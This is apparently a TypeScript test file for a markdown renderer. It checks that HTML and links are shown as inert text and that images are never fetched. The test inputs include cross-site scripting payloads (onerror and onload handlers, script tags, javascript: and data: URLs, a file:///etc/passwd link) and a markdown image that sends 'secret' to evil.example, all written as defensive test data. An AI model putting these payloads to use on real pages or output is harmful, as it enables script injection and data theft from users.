import { describe, expect, it } from "vitest";
import { GrowingMarkdown, markdownBlocks } from "../../../../src/web/page/model/markdown.ts";
import type { Tree, TreeElement } from "../../../../src/web/page/model/tree.ts";

const treesOf = (text: string): Tree[] => markdownBlocks(text).map(({ tree }) => tree);
const textOf = (tree: Tree): string => (typeof tree === "string" ? tree : tree.children.map(textOf).join(""));
const allText = (text: string): string => treesOf(text).map(textOf).join("\n");

function elements(text: string): TreeElement[] {
  const found: TreeElement[] = [];
  const walk = (tree: Tree): void => {
    if (typeof tree === "string") return;
    found.push(tree);
    tree.children.forEach(walk);
  };
  treesOf(text).forEach(walk);
  return found;
}

describe("markdownBlocks", () => {
  it.each([
    "<img src=x onerror=fetch('/hit')>",
    "before <img src=x onerror=fetch('/hit')> after",
    "<script>fetch('/hit')</script>",
    "<svg onload=fetch('/hit')></svg>",
    "<iframe src=//evil.example></iframe>",
    "<style>body { background: url(//evil.example) }</style>",
    '<a href="javascript:fetch(1)">a</a>',
    "- <b onclick=fetch('/hit')>x</b>",
    "| a |\n|---|\n| <img src=x onerror=fetch('/hit')> |",
  ])("shows %s as the text it is (W06)", (text) => {
    for (const { tag, href } of elements(text)) {
      expect(["p", "ul", "li", "span", "table", "thead", "tbody", "tr", "th", "td"]).toContain(tag);
      expect(href).toBeUndefined();
    }
    expect(allText(text).replaceAll(/\s/g, "")).toContain(text.replace(/^.*?</s, "<").replaceAll(/[\s|]/g, ""));
  });

  it.each([
    "[a](javascript:fetch('/hit'))",
    "[a](JaVaScRiPt:fetch)",
    "[a](data:text/html,<script>1</script>)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/x)",
    "[a](/api/sessions)",
    "[a](&#106;avascript:fetch)",
    "[a](\u0001javascript:fetch)",
    "[a][b]\n\n[b]: javascript:fetch",
  ])("makes no link of %s, and shows where it would lead (W06)", (text) => {
    expect(elements(text).filter(({ tag }) => tag === "a")).toEqual([]);
    expect(allText(text)).toMatch(/^a/);
  });

  it("links to the web and to mail", () => {
    const links = elements("[a](https://x.example/y) <http://z.example> [m](mailto:a@b.example) https://bare.example");
    expect(links.filter(({ tag }) => tag === "a").map(({ href }) => href)).toEqual([
      "https://x.example/y",
      "http://z.example",
      "mailto:a@b.example",
      "https://bare.example",
    ]);
  });

  it("never makes a picture: its words and its address are text (W07)", () => {
    for (const text of ["![x](http://evil.example/?d=secret)", "![x][p]\n\n[p]: http://evil.example/?d=secret"]) {
      expect(elements(text).map(({ tag }) => tag)).toEqual(["p", "span"]);
      expect(allText(text)).toContain("[picture: x] http://evil.example/?d=secret");
    }
  });

  it("makes hidden characters visible, also those written as character references", () => {
    expect(allText("a\u202eb \u001b[2J `\u200b`")).toBe("a\\u202eb \\x1b[2J \\u200b");
    expect(allText("&lt;b&gt; &amp; &#8238;x &#x1b;")).toBe("<b> & \\u202ex \\x1b");
  });

  it("colours code by spans and keeps its text", () => {
    const code = "const a = `<b>x</b>`; // done";
    const pre = treesOf(`\`\`\`ts\n${code}\n\`\`\``)[0]!;
    expect(textOf(pre)).toBe(code);
    expect(elements(`\`\`\`ts\n${code}\n\`\`\``).map(({ className }) => className)).toContain("hl-keyword");
    expect(textOf(treesOf("```nonsense\n<x>\n```")[0]!)).toBe("<x>");
  });

  it("reads lists, tables, tasks and headings", () => {
    const text = "# One\n\n3. a\n4. b\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quote\n\n---";
    const found = elements(text);
    expect(found.find(({ tag }) => tag === "ol")?.start).toBe(3);
    expect(found.filter(({ tag }) => tag === "td").map(({ align }) => align)).toEqual([undefined, "right"]);
    expect(found.find(({ tag }) => tag === "h3")?.className).toBe("depth-1");
    expect(allText(text)).toContain("☑ done☐ open");
    expect(found.map(({ tag }) => tag)).toContain("hr");
  });
});

describe("GrowingMarkdown", () => {
  const text =
    "# Title\n\nA *first* paragraph\nof two lines.\n\n- one\n\n- two\n  - nested\n\n```ts\nconst a = 1;\n\nlet b;\n```\n\nEnd.";

  it("gives at each length what reading all of it gives", () => {
    const growing = new GrowingMarkdown();
    for (let length = 1; length <= text.length; length++) {
      const part = text.slice(0, length);
      expect(growing.update(part).map(({ tree }) => tree)).toEqual(treesOf(part));
    }
  });

  it("keeps the blocks that are over", () => {
    const growing = new GrowingMarkdown();
    const before = growing.update("First.\n\nSecond.\n\nThi");
    const after = growing.update("First.\n\nSecond.\n\nThird grows.");
    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
    expect(after[2]).not.toBe(before[2]);
  });

  it("begins anew when the text is another one", () => {
    const growing = new GrowingMarkdown();
    growing.update("One.\n\nTwo.");
    expect(growing.update("Else.").map(({ raw }) => raw)).toEqual(["Else."]);
  });
});
